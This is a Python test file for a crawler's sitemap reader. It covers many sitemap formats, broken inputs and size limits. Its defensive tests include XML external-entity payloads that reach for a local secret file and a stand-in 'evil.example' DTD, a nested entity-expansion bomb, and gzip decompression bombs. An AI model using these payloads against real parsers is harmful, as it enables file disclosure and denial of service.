"""Sitemaps: every form, every bound, and never more said than was read."""

import gzip
import zlib
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingestion.crawl.sitemaps import MOST_BYTES, Sitemap, read_sitemap

URL = "https://example.com/sitemap.xml"
NAMESPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
ATOM = 'xmlns="http://www.w3.org/2005/Atom"'
A, B, C = (f"https://example.com/{name}" for name in "abc")
URLSET = f"<urlset {NAMESPACE}><url><loc>{A}</loc><lastmod>2026-01-01</lastmod></url><url><loc>{B}</loc></url></urlset>"


def read(body: str | bytes, *, cut: bool = False, max_urls: int = 5_000) -> Sitemap:
    return read_sitemap(body if isinstance(body, bytes) else body.encode(), url=URL, cut=cut, max_urls=max_urls)


WHOLE = {
    "a urlset": (URLSET, "urlset", (A, B)),
    "with a declaration": (f'<?xml version="1.0" encoding="UTF-8"?>\n{URLSET}', "urlset", (A, B)),
    "with a byte-order mark": (b"\xef\xbb\xbf" + URLSET.encode(), "urlset", (A, B)),
    "with blank space around": (f'\n\n <?xml version="1.0"?>{URLSET}\n\n', "urlset", (A, B)),
    "in UTF-16": (f'<?xml version="1.0" encoding="UTF-16"?>{URLSET}'.encode("utf-16"), "urlset", (A, B)),
    "in UTF-16 without a mark": (f'<?xml version="1.0" encoding="utf-16"?>{URLSET}'.encode("utf-16-be"), "urlset", (A, B)),
    "said to be UTF-16 and is not": (f'<?xml version="1.0" encoding="utf-16"?>{URLSET}', "urlset", (A, B)),
    "in Latin-1": (
        '<?xml version="1.0" encoding="ISO-8859-1"?><urlset><url><loc>https://example.com/é</loc></url></urlset>'.encode("latin-1"),
        "urlset",
        ("https://example.com/%C3%A9",),
    ),
    "without namespace": (f"<urlset><url><loc>{A}</loc></url></urlset>", "urlset", (A,)),
    "with prefixes": (
        f'<sm:urlset xmlns:sm="http://www.sitemaps.org/schemas/sitemap/0.9"><sm:url><sm:loc>{A}</sm:loc></sm:url></sm:urlset>',
        "urlset",
        (A,),
    ),
    "with a document type": (f"<!DOCTYPE urlset>{URLSET}", "urlset", (A, B)),
    "with entities, CDATA and blank space": (
        f"<urlset><url><loc>\n  {A}?x=1&amp;y=&#50; </loc></url><url><loc><![CDATA[{B}?x&y]]></loc></url></urlset>",
        "urlset",
        (f"{A}?x=1&y=2", f"{B}?x&y"),
    ),
    "with images, videos and other languages": (
        f'<urlset {NAMESPACE} xmlns:i="http://www.google.com/schemas/sitemap-image/1.1" xmlns:x="http://www.w3.org/1999/xhtml"><url><loc>{A}</loc>'
        f'<i:image><i:loc>{B}</i:loc></i:image><i:loc>{B}</i:loc><x:link rel="alternate" href="{C}"/></url><loc>{C}</loc></urlset>',
        "urlset",
        (A,),
    ),
    "with a comment inside an address": ("<urlset><url><loc>https://exam<!-- x -->ple.com/a</loc></url></urlset>", "urlset", (A,)),
    "with comments and instructions behind": (f"{URLSET}<!-- made by x --><?pi?>\n<!-- </urlset> -->", "urlset", (A, B)),
    "an empty one": (f"<urlset {NAMESPACE}></urlset>", "urlset", ()),
    "an empty one that closes itself": (f'<?xml version="1.0"?><urlset {NAMESPACE}/><!-- end -->', "urlset", ()),
    "with what is no absolute address of the web": (
        f"<urlset><url><loc>/a</loc></url><url><loc>ftp://example.com/</loc></url><url><loc/></url><url><loc>{A}</loc></url>"
        "<url><loc>https://u:p@example.com/</loc></url><url><loc>javascript:x</loc></url></urlset>",
        "urlset",
        (A,),
    ),
    "with an address twice": (f"<urlset><url><loc>{A}</loc></url><url><loc>{A}</loc></url></urlset>", "urlset", (A,)),
    "RSS": (
        f'<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><link>{C}</link><atom:link href="{C}"/>'
        f"<item><title>x</title><link>{A}</link><guid>{C}</guid></item><item><link> {B} </link></item></channel></rss>",
        "feed",
        (A, B),
    ),
    "Atom": (
        f'<feed {ATOM}><link href="{C}"/><entry><link href="{A}"/><link rel="edit" href="{C}"/></entry>'
        f'<entry><link rel="alternate" href="{B}"></link></entry></feed>',
        "feed",
        (A, B),
    ),
    "plain text": (f"{A}\r\n\r\n  {B}\n# a remark\nHTTPS://EXAMPLE.COM/c", "text", (A, B, C)),
    "plain text with a byte-order mark": (f"{A}\n{B}\n".encode("utf-16"), "text", (A, B)),
    "gzip": (gzip.compress(URLSET.encode()), "urlset", (A, B)),
    "gzip of gzip": (gzip.compress(gzip.compress(URLSET.encode())), "urlset", (A, B)),
    "gzip in parts, with padding": (
        gzip.compress(URLSET[:50].encode()) + gzip.compress(URLSET[50:].encode()) + b"\0" * 9,
        "urlset",
        (A, B),
    ),
    "gzip of text": (gzip.compress(A.encode()), "text", (A,)),
}


@pytest.mark.parametrize("name", WHOLE)
def test_every_form_is_read(name):
    body, form, pages = WHOLE[name]
    assert read(body) == Sitemap(form, pages)


def test_an_index_leads_to_children_on_its_own_host():
    children = "".join(
        f"<sitemap><loc>{url}</loc></sitemap>"
        for url in (A, "http://example.com/b.xml.gz", "https://cdn.example.com/c", "https://example.com:8443/d", "/e", A)
    )
    body = f"<sitemapindex {NAMESPACE}>{children}</sitemapindex>"
    assert read(body) == Sitemap("index", (), (A, "http://example.com/b.xml.gz"))
    assert read(gzip.compress(body.encode())).children == (A, "http://example.com/b.xml.gz")


BROKEN = {
    "nothing": (b"", (), "This is not a sitemap"),
    "blank space": (b" \n", (), "This is not a sitemap"),
    "a page that says please wait": (
        "<!DOCTYPE html><html><head><title>Back soon</title><meta charset=x></head></html>",
        (),
        "This is not a sitemap",
    ),
    "a page that is XML": (
        f'<html xmlns="http://www.w3.org/1999/xhtml"><a href="{A}">x</a></html>',
        (),
        "not a sitemap: its root is <html>",
    ),
    "a text that says please wait": (f"We are back soon. See\n{A}\n", (A,), "Line 1 of the sitemap is not"),
    "something else": (b"\x89PNG\r\n\x1a\n\0\0", (), "This is not a sitemap"),
    "JSON": (b'{"a": 1}', (), "This is not a sitemap"),
    "a root that is not closed": (URLSET.removesuffix("</urlset>"), (A, B), "cannot be read to its end"),
    "an end in the middle of an address": (URLSET[: URLSET.index(B) + len(B) - 1], (A,), "cannot be read to its end"),
    "an end in the middle of the closing tag": (URLSET[:-1], (A, B), "cannot be read to its end"),
    "an end that is only a comment": (URLSET.removesuffix("</urlset>") + "<!-- </urlset> -->", (A, B), "cannot be read to its end"),
    "something behind the end": (URLSET + "<script>x</script>", (A, B), "cannot be read to its end"),
    "a bare ampersand": (f"<urlset><url><loc>{A}</loc></url><url><loc>{B}?x&y</loc></url></urlset>", (A,), "cannot be read to its end"),
    "bytes that are no UTF-8": (f"<urlset><url><loc>{A}</loc></url></urlset>".encode() + b"\xff", (A,), "cannot be read to its end"),
    "an encoding that nobody knows": (f'<?xml version="1.0" encoding="nonsense"?>{URLSET}', (), "This is not a sitemap"),
    "gzip that ends early": (gzip.compress(URLSET.encode())[:-12], (A,), "ends too early"),
    "gzip that is damaged": (gzip.compress(URLSET.encode())[:30] + b"\xff" * 40, (), "is damaged"),
    "an entity that is nowhere": (f"<urlset><url><loc>{A}&nowhere;</loc></url></urlset>", (), "cannot be read to its end"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_what_was_not_read_whole_says_so(name):
    body, pages, problem = BROKEN[name]
    sitemap = read(body)
    assert not sitemap.whole
    assert problem in sitemap.problem
    assert set(pages) <= set(sitemap.pages) <= {A, B}


def test_a_body_that_was_cut_is_never_whole():
    assert read(URLSET, cut=True).pages == (A, B)
    for body in (URLSET, URLSET[:-20], f"{A}\n{B}\n", gzip.compress(URLSET.encode())[:60]):
        sitemap = read(body, cut=True)
        assert (sitemap.whole, "was cut after" in sitemap.problem) == (False, True)
    assert read(f"{A}\n{B}/and-mo", cut=True).pages == (A,)


def test_entities_are_not_expanded(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text(A)
    declared = (
        f'<!ENTITY x SYSTEM "{secret.as_uri()}">',
        f'<!ENTITY x "{A}">',
        '<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;',
    )
    for entity in declared:
        sitemap = read(f"<!DOCTYPE urlset [{entity}]><urlset><url><loc>&x;</loc></url></urlset>")
        assert (sitemap.pages, sitemap.whole) == ((), False)
        assert "declares entities" in sitemap.problem


def test_a_bomb_of_entities_in_any_spelling_is_small():
    names = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    body = (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE urlset [<!ENTITY e0 "lol">{names}]><urlset><url><loc>&e9;</loc></url></urlset>'
    )
    started = process_time()
    assert not read(body.encode("utf-16")).whole
    assert not read(body.replace("UTF-16", "IBM037").encode("cp037")).whole
    assert process_time() - started < 2


def test_a_bomb_of_gzip_stops_at_its_bound():
    started = process_time()
    large = gzip.compress(f"{A}\n".encode() + b"\n" * (MOST_BYTES + 10))
    sitemap = read(large)
    assert (len(large) < 100_000, sitemap.pages, sitemap.whole) == (True, (A,), False)
    assert "larger than" in sitemap.problem
    assert not read(gzip.compress(gzip.compress(b"\n" * (4 * MOST_BYTES)))).whole
    assert "parts" in read(gzip.compress(b"") * 20_000).problem
    assert process_time() - started < 10


def test_a_sitemap_just_as_large_as_allowed_is_whole():
    body = f"<urlset>{' ' * (MOST_BYTES - 100)}<url><loc>{A}</loc></url></urlset>".ljust(MOST_BYTES).encode()
    packer = zlib.compressobj(wbits=31)
    assert read(packer.compress(body) + packer.flush()) == Sitemap("urlset", (A,))


def test_the_number_of_addresses_is_bounded():
    def urlset(count: int) -> str:
        return "<urlset>" + "".join(f"<url><loc>https://example.com/{number}</loc></url>" for number in range(count)) + "</urlset>"

    assert read(urlset(10), max_urls=10).whole
    for body in (urlset(11), "\n".join(f"https://example.com/{number}" for number in range(11))):
        sitemap = read(body, max_urls=10)
        assert (len(sitemap.pages), sitemap.whole, "more than 10 addresses" in sitemap.problem) == (10, False, True)


def test_the_number_and_depth_of_elements_are_bounded():
    started = process_time()
    assert not read(b"<urlset>" + b"<a/>" * 3_000_000 + b"</urlset>").whole
    assert not read(b"<urlset>" + b"<a>" * 1_000_000).whole
    assert not read(b"<urlset><url><loc>" + b"x" * (MOST_BYTES - 100) + b"</loc></url></urlset>").pages
    assert process_time() - started < 15


_PIECES = st.sampled_from(
    [
        "<urlset>",
        "</urlset>",
        "<url>",
        "</url>",
        "<loc>",
        "</loc>",
        A,
        B,
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?xml version='1.0'?>",
        "&amp;",
        "&",
    ]
    + ["<sitemapindex>", "<sitemap>", "<rss>", "<feed>", "\n", " ", "<!DOCTYPE x [", "]>", "\0", "ü", "\x1f\x8b", "<html>"]
)


@given(st.one_of(st.binary(max_size=300), st.lists(_PIECES, max_size=25).map(lambda pieces: "".join(pieces).encode())), st.booleans())
def test_no_bytes_break_it(body, cut):
    for content in (body, gzip.compress(body), b"\x1f\x8b\x08\x00" + body, b"\xff\xfe" + body):
        sitemap = read(content, cut=cut, max_urls=3)
        assert sitemap.whole is not bool(sitemap.problem)
        assert len(sitemap.pages) <= 3
        assert not (cut and sitemap.whole)
        assert all(url.startswith(("http://", "https://")) for url in sitemap.pages + sitemap.children)
